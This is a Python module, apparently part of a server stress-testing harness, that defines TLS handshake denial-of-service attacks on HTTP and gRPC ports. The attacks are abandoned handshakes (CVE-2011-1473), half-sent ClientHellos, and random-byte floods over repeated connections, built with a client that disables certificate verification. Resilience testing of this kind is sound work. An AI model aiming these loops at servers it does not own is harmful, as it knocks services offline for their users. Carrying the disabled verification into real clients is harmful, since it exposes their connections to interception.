"""Attacks on the handshake of TLS."""

from __future__ import annotations

import random
import ssl
from collections.abc import Iterator
from functools import lru_cache

from tools.siege.attack import Attack, HangUp, Pause, Port, Step, attack


@lru_cache
def client_hello(port: Port) -> bytes:
    """The first message of a client that trusts anybody."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if port is Port.GRPC:
        context.set_alpn_protocols(["h2"])
    outgoing = ssl.MemoryBIO()
    client = context.wrap_bio(ssl.MemoryBIO(), outgoing)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:  # as it must: nobody answers
        pass
    return outgoing.read()


def _begun(port: Port) -> Iterator[Step]:
    hello = client_hello(port)
    while True:
        yield hello
        yield Pause(0.005)
        yield HangUp()


@attack("CVE-2011-1473", Port.HTTP, is_below_tls=True, sockets=4)
def handshakes_begun(dice: random.Random) -> Iterator[Step]:
    """Handshakes for which the server computes, and whose client goes away at once."""
    return _begun(Port.HTTP)


@attack("CVE-2011-1473", Port.GRPC, is_below_tls=True, sockets=4)
def handshakes_begun_grpc(dice: random.Random) -> Iterator[Step]:
    """Handshakes on the port of gRPC for which the server computes, and whose client goes away at once."""
    return _begun(Port.GRPC)


@attack("RFC 8446, 4", Port.HTTP, is_below_tls=True, sockets=20)
def half_handshakes(dice: random.Random) -> Iterator[Step]:
    """Connections, 20 for each, that begin a handshake and never end it."""
    hello = client_hello(Port.HTTP)
    yield hello[: len(hello) // 2]
    yield Pause(1)
    yield hello[len(hello) // 2 :]


@attack("RFC 8446, 5.1", Port.HTTP, is_below_tls=True)
def noise_for_tls(dice: random.Random) -> Iterator[Step]:
    """Noise where a handshake should be, and a new connection for each piece of it."""
    while True:
        yield dice.randbytes(16 << 10)
        yield Pause(0.005)
        yield HangUp()


ATTACKS = tuple(value for value in tuple(globals().values()) if isinstance(value, Attack))
